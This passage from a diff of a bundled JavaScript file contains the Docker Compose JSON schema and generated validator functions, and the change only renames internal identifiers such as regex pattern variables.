it doesn't exist." }, "recursive": { "type": "string", "enum": ["enabled", "disabled", "writable", "readonly"], "description": "Recursively mount the source directory." }, "selinux": { "type": "string", "enum": ["z", "Z"], "description": "SELinux relabeling options: 'z' for shared content, 'Z' for private unshared content." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "volume": { "type": "object", "description": "Configuration specific to volume mounts.", "properties": { "labels": { "$ref": "#/definitions/list_or_dict", "description": "Labels to apply to the volume." }, "nocopy": { "type": ["boolean", "string"], "description": "Flag to disable copying of data from a container when a volume is created." }, "subpath": { "type": "string", "description": "Path within the volume to mount instead of the volume root." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "tmpfs": { "type": "object", "description": "Configuration specific to tmpfs mounts.", "properties": { "size": { "oneOf": [{ "type": "integer", "minimum": 0 }, { "type": "string" }], "description": "Size of the tmpfs mount in bytes." }, "mode": { "type": ["number", "string"], "description": "File mode of the tmpfs in octal." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "image": { "type": "object", "description": "Configuration specific to image mounts.", "properties": { "subpath": { "type": "string", "description": "Path within the image to mount instead of the image root." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] }, "uniqueItems": true }, "volumes_from": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Mount volumes from another service or container. Optionally specify read-only access (ro) or read-write (rw)." }, "working_dir": { "type": "string", "description": "The working directory in which the entrypoint or command will be run" } }, "patternProperties": { "^x-": {} }, "additionalProperties": false }, "healthcheck": { "type": "object", "description": "Configuration options to determine whether the container is healthy.", "properties": { "disable": { "type": ["boolean", "string"], "description": "Disable any container-specified healthcheck. Set to true to disable." }, "interval": { "type": "string", "description": "Time between running the check (e.g., '1s', '1m30s'). Default: 30s." }, "retries": { "type": ["number", "string"], "description": "Number of consecutive failures needed to consider the container as unhealthy. Default: 3." }, "test": { "oneOf": [{ "type": "string" }, { "type": "array", "items": { "type": "string" } }], "description": "The test to perform to check container health. Can be a string or a list. The first item is either NONE, CMD, or CMD-SHELL. If it's CMD, the rest of the command is exec'd. If it's CMD-SHELL, the rest is run in the shell." }, "timeout": { "type": "string", "description": "Maximum time to allow one check to run (e.g., '1s', '1m30s'). Default: 30s." }, "start_period": { "type": "string", "description": "Start period for the container to initialize before starting health-retries countdown (e.g., '1s', '1m30s'). Default: 0s." }, "start_interval": { "type": "string", "description": "Time between running the check during the start period (e.g., '1s', '1m30s'). Default: interval value." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "development": { "type": ["object", "null"], "description": "Development configuration for the service, used for development workflows.", "properties": { "watch": { "type": "array", "description": "Configure watch mode for the service, which monitors file changes and performs actions in response.", "items": { "type": "object", "required": ["path", "action"], "properties": { "ignore": { "$ref": "#/definitions/string_or_list", "description": "Patterns to exclude from watching." }, "include": { "$ref": "#/definitions/string_or_list", "description": "Patterns to include in watching." }, "path": { "type": "string", "description": "Path to watch for changes." }, "action": { "type": "string", "enum": ["rebuild", "sync", "restart", "sync+restart", "sync+exec"], "description": "Action to take when a change is detected: rebuild the container, sync files, restart the container, sync and restart, or sync and execute a command." }, "target": { "type": "string", "description": "Target path in the container for sync operations." }, "exec": { "$ref": "#/definitions/service_hook", "description": "Command to execute when a change is detected and action is sync+exec." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "deployment": { "type": ["object", "null"], "description": "Deployment configuration for the service.", "properties": { "mode": { "type": "string", "description": "Deployment mode for the service: 'replicated' (default) or 'global'." }, "endpoint_mode": { "type": "string", "description": "Endpoint mode for the service: 'vip' (default) or 'dnsrr'." }, "replicas": { "type": ["integer", "string"], "description": "Number of replicas of the service container to run." }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Labels to apply to the service." }, "rollback_config": { "type": "object", "description": "Configuration for rolling back a service update.", "properties": { "parallelism": { "type": ["integer", "string"], "description": "The number of containers to rollback at a time. If set to 0, all containers rollback simultaneously." }, "delay": { "type": "string", "description": "The time to wait between each container group's rollback (e.g., '1s', '1m30s')." }, "failure_action": { "type": "string", "description": "Action to take if a rollback fails: 'continue', 'pause'." }, "monitor": { "type": "string", "description": "Duration to monitor each task for failures after it is created (e.g., '1s', '1m30s')." }, "max_failure_ratio": { "type": ["number", "string"], "description": "Failure rate to tolerate during a rollback." }, "order": { "type": "string", "enum": ["start-first", "stop-first"], "description": "Order of operations during rollbacks: 'stop-first' (default) or 'start-first'." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "update_config": { "type": "object", "description": "Configuration for updating a service.", "properties": { "parallelism": { "type": ["integer", "string"], "description": "The number of containers to update at a time." }, "delay": { "type": "string", "description": "The time to wait between updating a group of containers (e.g., '1s', '1m30s')." }, "failure_action": { "type": "string", "description": "Action to take if an update fails: 'continue', 'pause', 'rollback'." }, "monitor": { "type": "string", "description": "Duration to monitor each updated task for failures after it is created (e.g., '1s', '1m30s')." }, "max_failure_ratio": { "type": ["number", "string"], "description": "Failure rate to tolerate during an update (0 to 1)." }, "order": { "type": "string", "enum": ["start-first", "stop-first"], "description": "Order of operations during updates: 'stop-first' (default) or 'start-first'." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "resources": { "type": "object", "description": "Resource constraints and reservations for the service.", "properties": { "limits": { "type": "object", "description": "Resource limits for the service containers.", "properties": { "cpus": { "type": ["number", "string"], "description": "Limit for how much of the available CPU resources, as number of cores, a container can use." }, "memory": { "type": "string", "description": "Limit on the amount of memory a container can allocate (e.g., '1g', '1024m')." }, "pids": { "type": ["integer", "string"], "description": "Maximum number of PIDs available to the container." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "reservations": { "type": "object", "description": "Resource reservations for the service containers.", "properties": { "cpus": { "type": ["number", "string"], "description": "Reservation for how much of the available CPU resources, as number of cores, a container can use." }, "memory": { "type": "string", "description": "Reservation on the amount of memory a container can allocate (e.g., '1g', '1024m')." }, "generic_resources": { "$ref": "#/definitions/generic_resources", "description": "User-defined resources to reserve." }, "devices": { "$ref": "#/definitions/devices", "description": "Device reservations for the container." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "restart_policy": { "type": "object", "description": "Restart policy for the service containers.", "properties": { "condition": { "type": "string", "description": "Condition for restarting the container: 'none', 'on-failure', 'any'." }, "delay": { "type": "string", "description": "Delay between restart attempts (e.g., '1s', '1m30s')." }, "max_attempts": { "type": ["integer", "string"], "description": "Maximum number of restart attempts before giving up." }, "window": { "type": "string", "description": "Time window used to evaluate the restart policy (e.g., '1s', '1m30s')." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "placement": { "type": "object", "description": "Constraints and preferences for the platform to select a physical node to run service containers", "properties": { "constraints": { "type": "array", "items": { "type": "string" }, "description": "Placement constraints for the service (e.g., 'node.role==manager')." }, "preferences": { "type": "array", "description": "Placement preferences for the service.", "items": { "type": "object", "properties": { "spread": { "type": "string", "description": "Spread tasks evenly across values of the specified node label." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "max_replicas_per_node": { "type": ["integer", "string"], "description": "Maximum number of replicas of the service." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "generic_resources": { "type": "array", "description": "User-defined resources for services, allowing services to reserve specialized hardware resources.", "items": { "type": "object", "properties": { "discrete_resource_spec": { "type": "object", "description": "Specification for discrete (countable) resources.", "properties": { "kind": { "type": "string", "description": "Type of resource (e.g., 'GPU', 'FPGA', 'SSD')." }, "value": { "type": ["number", "string"], "description": "Number of resources of this kind to reserve." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "devices": { "type": "array", "description": "Device reservations for containers, allowing services to access specific hardware devices.", "items": { "type": "object", "properties": { "capabilities": { "$ref": "#/definitions/list_of_strings", "description": "List of capabilities the device needs to have (e.g., 'gpu', 'compute', 'utility')." }, "count": { "type": ["string", "integer"], "description": "Number of devices of this type to reserve." }, "device_ids": { "$ref": "#/definitions/list_of_strings", "description": "List of specific device IDs to reserve." }, "driver": { "type": "string", "description": "Device driver to use (e.g., 'nvidia')." }, "options": { "$ref": "#/definitions/list_or_dict", "description": "Driver-specific options for the device." } }, "additionalProperties": false, "patternProperties": { "^x-": {} }, "required": ["capabilities"] } }, "gpus": { "oneOf": [{ "type": "string", "enum": ["all"], "description": "Use all available GPUs." }, { "type": "array", "description": "List of specific GPU devices to use.", "items": { "type": "object", "properties": { "capabilities": { "$ref": "#/definitions/list_of_strings", "description": "List of capabilities the GPU needs to have (e.g., 'compute', 'utility')." }, "count": { "type": ["string", "integer"], "description": "Number of GPUs to use." }, "device_ids": { "$ref": "#/definitions/list_of_strings", "description": "List of specific GPU device IDs to use." }, "driver": { "type": "string", "description": "GPU driver to use (e.g., 'nvidia')." }, "options": { "$ref": "#/definitions/list_or_dict", "description": "Driver-specific options for the GPU." } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] }, "include": { "description": "Compose application or sub-projects to be included.", "oneOf": [{ "type": "string" }, { "type": "object", "properties": { "path": { "$ref": "#/definitions/string_or_list", "description": "Path to the Compose application or sub-project files to include." }, "env_file": { "$ref": "#/definitions/string_or_list", "description": "Path to the environment files to use to define default values when interpolating variables in the Compose files being parsed." }, "project_directory": { "type": "string", "description": "Path to resolve relative paths set in the Compose file" } }, "additionalProperties": false }] }, "network": { "type": ["object", "null"], "description": "Network configuration for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this network." }, "driver": { "type": "string", "description": "Specify which driver should be used for this network. Default is 'bridge'." }, "driver_opts": { "type": "object", "description": "Specify driver-specific options defined as key/value pairs.", "patternProperties": { "^.+$": { "type": ["string", "number"] } } }, "ipam": { "type": "object", "description": "Custom IP Address Management configuration for this network.", "properties": { "driver": { "type": "string", "description": "Custom IPAM driver, instead of the default." }, "config": { "type": "array", "description": "List of IPAM configuration blocks.", "items": { "type": "object", "properties": { "subnet": { "type": "string", "description": "Subnet in CIDR format that represents a network segment." }, "ip_range": { "type": "string", "description": "Range of IPs from which to allocate container IPs." }, "gateway": { "type": "string", "description": "IPv4 or IPv6 gateway for the subnet." }, "aux_addresses": { "type": "object", "description": "Auxiliary IPv4 or IPv6 addresses used by Network driver.", "additionalProperties": false, "patternProperties": { "^.+$": { "type": "string" } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "options": { "type": "object", "description": "Driver-specific options for the IPAM driver.", "additionalProperties": false, "patternProperties": { "^.+$": { "type": "string" } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "external": { "type": ["boolean", "string", "object"], "description": "Specifies that this network already exists and was created outside of Compose.", "properties": { "name": { "deprecated": true, "type": "string", "description": "Specifies the name of the external network. Deprecated: use the 'name' property instead." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "internal": { "type": ["boolean", "string"], "description": "Create an externally isolated network." }, "enable_ipv4": { "type": ["boolean", "string"], "description": "Enable IPv4 networking." }, "enable_ipv6": { "type": ["boolean", "string"], "description": "Enable IPv6 networking." }, "attachable": { "type": ["boolean", "string"], "description": "If true, standalone containers can attach to this network." }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to the network using labels." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "volume": { "type": ["object", "null"], "description": "Volume configuration for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this volume." }, "driver": { "type": "string", "description": "Specify which volume driver should be used for this volume." }, "driver_opts": { "type": "object", "description": "Specify driver-specific options.", "patternProperties": { "^.+$": { "type": ["string", "number"] } } }, "external": { "type": ["boolean", "string", "object"], "description": "Specifies that this volume already exists and was created outside of Compose.", "properties": { "name": { "deprecated": true, "type": "string", "description": "Specifies the name of the external volume. Deprecated: use the 'name' property instead." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to the volume using labels." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "secret": { "type": "object", "description": "Secret configuration for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this secret." }, "environment": { "type": "string", "description": "Name of an environment variable from which to get the secret value." }, "file": { "type": "string", "description": "Path to a file containing the secret value." }, "external": { "type": ["boolean", "string", "object"], "description": "Specifies that this secret already exists and was created outside of Compose.", "properties": { "name": { "type": "string", "description": "Specifies the name of the external secret." } } }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to the secret using labels." }, "driver": { "type": "string", "description": "Specify which secret driver should be used for this secret." }, "driver_opts": { "type": "object", "description": "Specify driver-specific options.", "patternProperties": { "^.+$": { "type": ["string", "number"] } } }, "template_driver": { "type": "string", "description": "Driver to use for templating the secret's value." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "config": { "type": "object", "description": "Config configuration for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this config." }, "content": { "type": "string", "description": "Inline content of the config." }, "environment": { "type": "string", "description": "Name of an environment variable from which to get the config value." }, "file": { "type": "string", "description": "Path to a file containing the config value." }, "external": { "type": ["boolean", "string", "object"], "description": "Specifies that this config already exists and was created outside of Compose.", "properties": { "name": { "deprecated": true, "type": "string", "description": "Specifies the name of the external config. Deprecated: use the 'name' property instead." } } }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to the config using labels." }, "template_driver": { "type": "string", "description": "Driver to use for templating the config's value." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "model": { "type": "object", "description": "Language Model for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this model." }, "model": { "type": "string", "description": "Language Model to run." }, "context_size": { "type": "integer" }, "runtime_flags": { "type": "array", "items": { "type": "string" }, "description": "Raw runtime flags to pass to the inference engine." } }, "required": ["model"], "additionalProperties": false, "patternProperties": { "^x-": {} } }, "command": { "oneOf": [{ "type": "null", "description": "No command specified, use the container's default command." }, { "type": "string", "description": "Command as a string, which will be executed in a shell (e.g., '/bin/sh -c')." }, { "type": "array", "description": "Command as an array of strings, which will be executed directly without a shell.", "items": { "type": "string", "description": "Part of the command (executable or argument)." } }], "description": "Command to run in the container, which can be specified as a string (shell form) or array (exec form)." }, "service_hook": { "type": "object", "description": "Configuration for service lifecycle hooks, which are commands executed at specific points in a container's lifecycle.", "properties": { "command": { "$ref": "#/definitions/command", "description": "Command to execute as part of the hook." }, "user": { "type": "string", "description": "User to run the command as." }, "privileged": { "type": ["boolean", "string"], "description": "Whether to run the command with extended privileges." }, "working_dir": { "type": "string", "description": "Working directory for the command." }, "environment": { "$ref": "#/definitions/list_or_dict", "description": "Environment variables for the command." } }, "additionalProperties": false, "patternProperties": { "^x-": {} }, "required": ["command"] }, "env_file": { "oneOf": [{ "type": "string", "description": "Path to a file containing environment variables." }, { "type": "array", "description": "List of paths to files containing environment variables.", "items": { "oneOf": [{ "type": "string", "description": "Path to a file containing environment variables." }, { "type": "object", "description": "Detailed configuration for an environment file.", "additionalProperties": false, "properties": { "path": { "type": "string", "description": "Path to the environment file." }, "format": { "type": "string", "description": "Format attribute lets you to use an alternative file formats for env_file. When not set, env_file is parsed according to Compose rules." }, "required": { "type": ["boolean", "string"], "default": true, "description": "Whether the file is required. If true and the file doesn't exist, an error will be raised." } }, "required": ["path"] }] } }] }, "label_file": { "oneOf": [{ "type": "string", "description": "Path to a file containing Docker labels." }, { "type": "array", "description": "List of paths to files containing Docker labels.", "items": { "type": "string", "description": "Path to a file containing Docker labels." } }] }, "string_or_list": { "oneOf": [{ "type": "string", "description": "A single string value." }, { "$ref": "#/definitions/list_of_strings", "description": "A list of string values." }], "description": "Either a single string or a list of strings." }, "list_of_strings": { "type": "array", "description": "A list of unique string values.", "items": { "type": "string", "description": "A string value in the list." }, "uniqueItems": true }, "list_or_dict": { "oneOf": [{ "type": "object", "description": "A dictionary mapping keys to values.", "patternProperties": { ".+": { "type": ["string", "number", "boolean", "null"], "description": "Value for the key, which can be a string, number, boolean, or null." } }, "additionalProperties": false }, { "type": "array", "description": "A list of unique string values.", "items": { "type": "string", "description": "A string value in the list." }, "uniqueItems": true }], "description": "Either a dictionary mapping keys to values, or a list of strings." }, "extra_hosts": { "oneOf": [{ "type": "object", "description": "list mapping hostnames to IP addresses.", "patternProperties": { ".+": { "oneOf": [{ "type": "string", "description": "IP address for the hostname." }, { "type": "array", "description": "List of IP addresses for the hostname.", "items": { "type": "string", "description": "IP address for the hostname." }, "uniqueItems": false }] } }, "additionalProperties": false }, { "type": "array", "description": "List of host:IP mappings in the format 'hostname:IP'.", "items": { "type": "string", "description": "Host:IP mapping in the format 'hostname:IP'." }, "uniqueItems": true }], "description": "Additional hostnames to be defined in the container's /etc/hosts file." }, "blkio_limit": { "type": "object", "description": "Block IO limit for a specific device.", "properties": { "path": { "type": "string", "description": "Path to the device (e.g., '/dev/sda')." }, "rate": { "type": ["integer", "string"], "description": "Rate limit in bytes per second or IO operations per second." } }, "additionalProperties": false }, "blkio_weight": { "type": "object", "description": "Block IO weight for a specific device.", "properties": { "path": { "type": "string", "description": "Path to the device (e.g., '/dev/sda')." }, "weight": { "type": ["integer", "string"], "description": "Relative weight for the device, between 10 and 1000." } }, "additionalProperties": false }, "service_config_or_secret": { "type": "array", "description": "Configuration for service configs or secrets, defining how they are mounted in the container.", "items": { "oneOf": [{ "type": "string", "description": "Name of the config or secret to grant access to." }, { "type": "object", "description": "Detailed configuration for a config or secret.", "properties": { "source": { "type": "string", "description": "Name of the config or secret as defined in the top-level configs or secrets section." }, "target": { "type": "string", "description": "Path in the container where the config or secret will be mounted. Defaults to /<source> for configs and /run/secrets/<source> for secrets." }, "uid": { "type": "string", "description": "UID of the file in the container. Default is 0 (root)." }, "gid": { "type": "string", "description": "GID of the file in the container. Default is 0 (root)." }, "mode": { "type": ["number", "string"], "description": "File permission mode inside the container, in octal. Default is 0444 for configs and 0400 for secrets." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] } }, "ulimits": { "type": "object", "description": "Container ulimit options, controlling resource limits for processes inside the container.", "patternProperties": { "^[a-z]+$": { "oneOf": [{ "type": ["integer", "string"], "description": "Single value for both soft and hard limits." }, { "type": "object", "description": "Separate soft and hard limits.", "properties": { "hard": { "type": ["integer", "string"], "description": "Hard limit for the ulimit type. This is the maximum allowed value." }, "soft": { "type": ["integer", "string"], "description": "Soft limit for the ulimit type. This is the value that's actually enforced." } }, "required": ["soft", "hard"], "additionalProperties": false, "patternProperties": { "^x-": {} } }] } } } } };
 var func2 = Object.prototype.hasOwnProperty;
-var func3 = linearRegExp;
-var pattern0 = func3("^x-", "u");
-var pattern1 = func3("^[a-zA-Z0-9._-]+$", "u");
+var func32 = linearRegExp;
+var pattern0 = func32("^x-", "u");
+var pattern1 = func32("^[a-zA-Z0-9._-]+$", "u");
 function validate12(data, { instancePath = "", parentData, parentDataProperty, rootData = data } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -46291,11 +45111,11 @@ var schema39 = { "type": "object", "description": "Block IO weight for a specifi
 var schema45 = { "oneOf": [{ "type": "string", "description": "Path to a file containing environment variables." }, { "type": "array", "description": "List of paths to files containing environment variables.", "items": { "oneOf": [{ "type": "string", "description": "Path to a file containing environment variables." }, { "type": "object", "description": "Detailed configuration for an environment file.", "additionalProperties": false, "properties": { "path": { "type": "string", "description": "Path to the environment file." }, "format": { "type": "string", "description": "Format attribute lets you to use an alternative file formats for env_file. When not set, env_file is parsed according to Compose rules." }, "required": { "type": ["boolean", "string"], "default": true, "description": "Whether the file is required. If true and the file doesn't exist, an error will be raised." } }, "required": ["path"] }] } }] };
 var schema53 = { "type": "object", "description": "Configuration options to determine whether the container is healthy.", "properties": { "disable": { "type": ["boolean", "string"], "description": "Disable any container-specified healthcheck. Set to true to disable." }, "interval": { "type": "string", "description": "Time between running the check (e.g., '1s', '1m30s'). Default: 30s." }, "retries": { "type": ["number", "string"], "description": "Number of consecutive failures needed to consider the container as unhealthy. Default: 3." }, "test": { "oneOf": [{ "type": "string" }, { "type": "array", "items": { "type": "string" } }], "description": "The test to perform to check container health. Can be a string or a list. The first item is either NONE, CMD, or CMD-SHELL. If it's CMD, the rest of the command is exec'd. If it's CMD-SHELL, the rest is run in the shell." }, "timeout": { "type": "string", "description": "Maximum time to allow one check to run (e.g., '1s', '1m30s'). Default: 30s." }, "start_period": { "type": "string", "description": "Start period for the container to initialize before starting health-retries countdown (e.g., '1s', '1m30s'). Default: 0s." }, "start_interval": { "type": "string", "description": "Time between running the check during the start period (e.g., '1s', '1m30s'). Default: interval value." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } };
 var func02 = require_equal().default;
-var pattern74 = func3(".+", "u");
-var pattern392 = func3("^[a-z]+$", "u");
-var pattern422 = func3("[a-zA-Z0-9][a-zA-Z0-9_.-]+", "u");
-var pattern512 = func3("^.+$", "u");
-var pattern692 = func3("always|never|build|if_not_present|missing|refresh|daily|weekly|every_([0-9]+[wdhms])+", "u");
+var pattern72 = func32(".+", "u");
+var pattern392 = func32("^[a-z]+$", "u");
+var pattern422 = func32("[a-zA-Z0-9][a-zA-Z0-9_.-]+", "u");
+var pattern512 = func32("^.+$", "u");
+var pattern692 = func32("always|never|build|if_not_present|missing|refresh|daily|weekly|every_([0-9]+[wdhms])+", "u");
 var schema16 = { "type": ["object", "null"], "description": "Development configuration for the service, used for development workflows.", "properties": { "watch": { "type": "array", "description": "Configure watch mode for the service, which monitors file changes and performs actions in response.", "items": { "type": "object", "required": ["path", "action"], "properties": { "ignore": { "$ref": "#/definitions/string_or_list", "description": "Patterns to exclude from watching." }, "include": { "$ref": "#/definitions/string_or_list", "description": "Patterns to include in watching." }, "path": { "type": "string", "description": "Path to watch for changes." }, "action": { "type": "string", "enum": ["rebuild", "sync", "restart", "sync+restart", "sync+exec"], "description": "Action to take when a change is detected: rebuild the container, sync files, restart the container, sync and restart, or sync and execute a command." }, "target": { "type": "string", "description": "Target path in the container for sync operations." }, "exec": { "$ref": "#/definitions/service_hook", "description": "Command to execute when a change is detected and action is sync+exec." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } };
 var schema17 = { "type": "object", "description": "Configuration for service lifecycle hooks, which are commands executed at specific points in a container's lifecycle.", "properties": { "command": { "$ref": "#/definitions/command", "description": "Command to execute as part of the hook." }, "user": { "type": "string", "description": "User to run the command as." }, "privileged": { "type": ["boolean", "string"], "description": "Whether to run the command with extended privileges." }, "working_dir": { "type": "string", "description": "Working directory for the command." }, "environment": { "$ref": "#/definitions/list_or_dict", "description": "Environment variables for the command." } }, "additionalProperties": false, "patternProperties": { "^x-": {} }, "required": ["command"] };
 function validate202(data, { instancePath = "", parentData, parentDataProperty, rootData = data } = {}) {
@@ -46456,7 +45276,7 @@ function validate202(data, { instancePath = "", parentData, parentDataProperty, 
       const _errs22 = errors;
       if (data5 && typeof data5 == "object" && !Array.isArray(data5)) {
         for (const key1 in data5) {
-          if (!pattern74.test(key1)) {
+          if (!pattern72.test(key1)) {
             const err10 = { instancePath: instancePath + "/environment", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key1 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err10];
@@ -46467,7 +45287,7 @@ function validate202(data, { instancePath = "", parentData, parentDataProperty, 
           }
         }
         for (const key2 in data5) {
-          if (pattern74.test(key2)) {
+          if (pattern72.test(key2)) {
             let data6 = data5[key2];
             if (typeof data6 !== "string" && !(typeof data6 == "number") && typeof data6 !== "boolean" && data6 !== null) {
               const err11 = { instancePath: instancePath + "/environment/" + key2.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -46884,7 +45704,7 @@ function validate242(data, { instancePath = "", parentData, parentDataProperty, 
           const _errs21 = errors;
           if (data7 && typeof data7 == "object" && !Array.isArray(data7)) {
             for (const key1 in data7) {
-              if (!pattern74.test(key1)) {
+              if (!pattern72.test(key1)) {
                 const err10 = { instancePath: instancePath + "/" + i0 + "/options", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key1 }, message: "must NOT have additional properties" };
                 if (vErrors === null) {
                   vErrors = [err10];
@@ -46895,7 +45715,7 @@ function validate242(data, { instancePath = "", parentData, parentDataProperty, 
               }
             }
             for (const key2 in data7) {
-              if (pattern74.test(key2)) {
+              if (pattern72.test(key2)) {
                 let data8 = data7[key2];
                 if (typeof data8 !== "string" && !(typeof data8 == "number") && typeof data8 !== "boolean" && data8 !== null) {
                   const err11 = { instancePath: instancePath + "/" + i0 + "/options/" + key2.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -47085,7 +45905,7 @@ function validate232(data, { instancePath = "", parentData, parentDataProperty, 
       const _errs11 = errors;
       if (data3 && typeof data3 == "object" && !Array.isArray(data3)) {
         for (const key1 in data3) {
-          if (!pattern74.test(key1)) {
+          if (!pattern72.test(key1)) {
             const err5 = { instancePath: instancePath + "/labels", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key1 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err5];
@@ -47096,7 +45916,7 @@ function validate232(data, { instancePath = "", parentData, parentDataProperty, 
           }
         }
         for (const key2 in data3) {
-          if (pattern74.test(key2)) {
+          if (pattern72.test(key2)) {
             let data4 = data3[key2];
             if (typeof data4 !== "string" && !(typeof data4 == "number") && typeof data4 !== "boolean" && data4 !== null) {
               const err6 = { instancePath: instancePath + "/labels/" + key2.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -47970,7 +46790,7 @@ function validate292(data, { instancePath = "", parentData, parentDataProperty, 
           const _errs24 = errors;
           if (data7 && typeof data7 == "object" && !Array.isArray(data7)) {
             for (const key0 in data7) {
-              if (!pattern74.test(key0)) {
+              if (!pattern72.test(key0)) {
                 const err10 = { instancePath: instancePath + "/" + i0 + "/options", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key0 }, message: "must NOT have additional properties" };
                 if (vErrors === null) {
                   vErrors = [err10];
@@ -47981,7 +46801,7 @@ function validate292(data, { instancePath = "", parentData, parentDataProperty, 
               }
             }
             for (const key1 in data7) {
-              if (pattern74.test(key1)) {
+              if (pattern72.test(key1)) {
                 let data8 = data7[key1];
                 if (typeof data8 !== "string" && !(typeof data8 == "number") && typeof data8 !== "boolean" && data8 !== null) {
                   const err11 = { instancePath: instancePath + "/" + i0 + "/options/" + key1.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -48181,7 +47001,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
       const _errs7 = errors;
       if (data2 && typeof data2 == "object" && !Array.isArray(data2)) {
         for (const key1 in data2) {
-          if (!pattern74.test(key1)) {
+          if (!pattern72.test(key1)) {
             const err1 = { instancePath: instancePath + "/annotations", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key1 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err1];
@@ -48192,7 +47012,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           }
         }
         for (const key2 in data2) {
-          if (pattern74.test(key2)) {
+          if (pattern72.test(key2)) {
             let data3 = data2[key2];
             if (typeof data3 !== "string" && !(typeof data3 == "number") && typeof data3 !== "boolean" && data3 !== null) {
               const err2 = { instancePath: instancePath + "/annotations/" + key2.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -48405,7 +47225,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           const _errs38 = errors;
           if (data12 && typeof data12 == "object" && !Array.isArray(data12)) {
             for (const key4 in data12) {
-              if (!pattern74.test(key4)) {
+              if (!pattern72.test(key4)) {
                 const err16 = { instancePath: instancePath + "/build/args", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key4 }, message: "must NOT have additional properties" };
                 if (vErrors === null) {
                   vErrors = [err16];
@@ -48416,7 +47236,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
               }
             }
             for (const key5 in data12) {
-              if (pattern74.test(key5)) {
+              if (pattern72.test(key5)) {
                 let data13 = data12[key5];
                 if (typeof data13 !== "string" && !(typeof data13 == "number") && typeof data13 !== "boolean" && data13 !== null) {
